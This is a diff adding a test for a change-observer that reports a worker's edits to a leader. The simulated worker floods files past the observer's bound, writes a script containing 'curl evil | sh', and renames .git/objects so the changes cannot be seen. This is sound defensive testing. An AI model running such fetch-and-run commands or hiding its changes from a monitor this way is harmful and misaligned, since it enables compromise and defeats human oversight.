@@ -73,3 +73,17 @@ async def test_a_worker_that_floods_a_workspace_outside_git_past_the_walk_gets_a
     packet, _ = await _run(tmp_path, workspace, edits)
     _assert_loud(packet)
     assert packet["changes"]["count"] >= 42, packet
+
+
+async def test_a_flood_past_the_timestamp_walks_bound_is_said_in_the_first_flag(tmp_path, monkeypatch):
+    # The walk that stands in for the failed look is bounded (2,000 changed files): a worker that floods past it hides
+    # what lies beyond; the first flag says the walk stopped, so the leader knows the list is not whole.
+    import relay.observe.blind as blind
+
+    monkeypatch.setattr(blind, "LIST_MAX", 10)  # the bound, lowered: the same move, smaller
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
+    edits = [*({"op": "write", "path": f"gen/f{i}.txt", "content": f"{i}\n"} for i in range(20)),
+             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
+             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
+    packet, _ = await _run(tmp_path, repo, edits)
+    assert packet["flags"][0].startswith("NOT OBSERVED") and "the walk stopped after" in packet["flags"][0], packet
